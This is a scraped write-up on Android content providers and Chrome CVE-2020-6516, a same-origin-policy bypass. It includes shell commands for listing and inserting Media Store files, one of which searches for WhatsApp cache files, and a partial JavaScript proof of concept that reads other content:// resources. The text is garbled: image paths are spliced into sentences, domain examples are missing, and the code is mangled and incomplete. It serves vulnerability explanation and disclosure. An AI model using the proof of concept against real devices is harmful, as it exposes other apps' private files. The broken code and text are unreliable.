content:// protocol

To experiment with content providers, one can use the content command on Android devices. Root access is not necessarily required. For example, to see the list of files managed by the Media Store, one can execute the following command:

$ content query --uri content://media/external/file

To make the output more human friendly, one can limit the displayed columns to the identifier and path of each indexed file.

$ content query --uri content://media/external/file --projection _id,_data

Media providers exist in their own private namespace. As illustrated in the example above, to access a content provider the corresponding content:// URI should be specified. Generally, information on the paths, via which a provider can be accessed, can berecovered by looking at application manifests (in case the content provider is exported by an application) or the source code of the Android framework.

Interestingly, on Android devices Chrome supports accessing content providers via the content:// scheme. This feature allows the browser to access resources (e.g. photos, documents etc.) exported by third party applications. To verify this, one can insert a custom entry in the Media Store and then access it using the browser:$ cd /sdcard
$ echo "Hello, world!" > test.txt
$ content insert --uri content://media/external/file \
    --bind _data:s:/storage/emulated/0/test.txt \
    --bind mime_type:s:text/plain

To discover the identifier of the newly inserted file:

$ content query --uri content://media/external/file \
    --projection _id,_data | grep test.txt
Row: 283 _id=747, _data=/storage/emulated/0/test.txt

And to actually view the file in Chrome, one can use a URL like the one shown in the following picture. Notice the file identifier 747 (discovered above) which is used as a suffix in the URL.

For example, you could list all the files related to WhatsApp with:

$ content query --uri content://media/external/file --projection _id,_data | grep -i whatsapp

Row: 82 _id=58, _data=/storage/emulated/0/Android/data/com.whatsapp/cache/SSLSessionCacheRow: 83 _id=705, _data=/storage/emulated/0/Android/data/com.whatsapp/cache/SSLSessionCache/
Row: 84 _id=239, _data=/storage/emulated/0/Android/data/com.whatsapp/cache/SSLSessionCache/
Row: 85 _id=240, _data=/storage/emulated/0/Android/data/com.whatsapp/cache/SSLSessionCache/
Row: 86 _id=90, _data=/storage/emulated/0/Android/data/com.whatsapp/cache/SSLSessionCache/
Row: 87 _id=706, _data=/storage/emulated/0/Android/data/com.whatsapp/cache/SSLSessionCache/
Row: 88 _id=89, _data=/storage/emulated/0/Android/data/com.whatsapp/cache/SSLSessionCache/

The Chrome CVE-2020-6516 Same-Origin-Policy bypass

The Same OriginPolicy (SOP) [12] in browsers dictates that Javascript content of URL A will only be able to access content at URL B if the following URL attributes remain the same for A and B:

  • The protocol e.g. https vs. http

  • The domain e.g. vs.

  • The port e.g. vs.

Of course, there are exceptions to the above rules, but in general, a resource from (e.g. a piece of Javascript code) cannot access the DOM of a resource on, as this would introduce serious information leaks. Unless a Cross-Origin-Resource-Sharing (CORS) policy explicitly allows so, it shouldn't be possible for a web resource to bypass the SOP rules.

It's essential to note that Chrome considers content:// to be a local scheme, just like file://. In this case SOP rules are even more strict, as each local scheme URL is considered a separate origin. For example, Javascript code in file:///tmp/test.html should not be able to access the contents offile:///tmp/test2.html, or any other file on the filesystem for that matter. Consequently, according to SOP rules, a resource loaded via content:// should not be able access any other content:// resource. Well, vulnerability CVE-2020-6516 of Chrome created an "exception" to this rule.

CVE-2020-6516 [03] is a SOP bypass on resources loaded via a content:// URL. For example, Javascript code, running from within the context of an HTML document loaded from content://com.example.provider/test.html, can load and access any other resource loaded via a content:// URL. This is a serious vulnerability, especially on devices running Android 9 or previous versions of Android. On these devices scoped storage [13] is not implemented and, consequently, application-specific data under/sdcard, and more interestingly under /sdcard/Android, can be accessed via the system's Media Store content provider.

A proof-of-concept is pretty straightforward. An HTML document that uses XMLHttpRequest to access arbitrary content:// URLs is uploaded under /sdcard. It is then added in the Media Store and rendered in Chrome, in a fashion similar to the example shown earlier. For demonstration purposes,one can attempt to load content://media/external/file/747 which is, in fact, the Media Store URL of the "Hello, world!" example. Surprisingly, the Javascript code, running within the origin of the HTML document, will fetch and display the contents of test.txt.

    <script type="text/javascript">
        function poc()
            var xhr = new XMLHttpRequest();

            xhr.onreadystatechange = function()
                if(this.readyState == 4)
                    if(this.status == 200 || this.status == 0)

  "GET","content://media/external/file/747");
<bodyonload="poc()"></body>

Information taken from thiswriteup:****

Last updated